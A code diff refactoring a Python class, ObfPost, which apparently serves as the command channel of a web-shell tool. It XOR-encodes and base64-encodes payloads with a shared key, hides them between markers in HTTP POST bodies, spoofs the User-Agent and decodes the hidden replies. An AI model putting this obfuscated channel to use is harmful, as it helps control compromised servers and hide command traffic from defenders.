@@ -1,14 +1,13 @@
-from core.loggers import dlog
+from core.loggers import log, dlog
 from core import config
+from core.channels import transport as channel_transport
 import re
 import urllib.parse
 import random
 import utils
 import string
-import base64
 import urllib.request, urllib.error, urllib.parse
 import hashlib
-import zlib
 import http.client
 import string
 
@@ -50,21 +49,20 @@ class ObfPost:
         self.additional_headers = config.additional_headers
 
 
-    def send(self, original_payload, additional_handlers = []):
+    def send(self, original_payload, transport = None):
 
         if isinstance(original_payload, str):
             original_payload = original_payload.encode('utf-8')
 
-        xorred_payload = utils.strings.sxor(
-                zlib.compress(original_payload),
+        obfuscated_payload = utils.codec.encode(
+                original_payload,
                 self.shared_key
-                )
-
-        obfuscated_payload = base64.b64encode(xorred_payload).rstrip(b'=')
+                ).rstrip(b'=')
 
         wrapped_payload = PREPEND + self.header + obfuscated_payload + self.trailer + APPEND
 
-        opener = urllib.request.build_opener(*additional_handlers)
+        if transport is None:
+            transport = channel_transport.get_transport(self.url)
 
         additional_ua = ''
         for h in self.additional_headers:
@@ -72,7 +70,7 @@ class ObfPost:
                 additional_ua = h[1]
                 break
 
-        opener.addheaders = [
+        headers = [
             ('User-Agent', (additional_ua if additional_ua else self.agent))
         ] + self.additional_headers
 
@@ -87,7 +85,7 @@ class ObfPost:
         )
 
         try:
-            response = opener.open(url, data = wrapped_payload).read()
+            response = transport.post(url, wrapped_payload, headers)
         except http.client.BadStatusLine as e:
             # TODO: add this check to the other channels
             log.warn('Connection closed unexpectedly, aborting command.')
@@ -105,9 +103,8 @@ class ObfPost:
     
         if matched and matched.group(1):
 
-            response = zlib.decompress(
-                utils.strings.sxor(
-                    base64.b64decode(matched.group(1)),
-                    self.shared_key))
+            response = utils.codec.decode(
+                matched.group(1),
+                self.shared_key)
 
             return response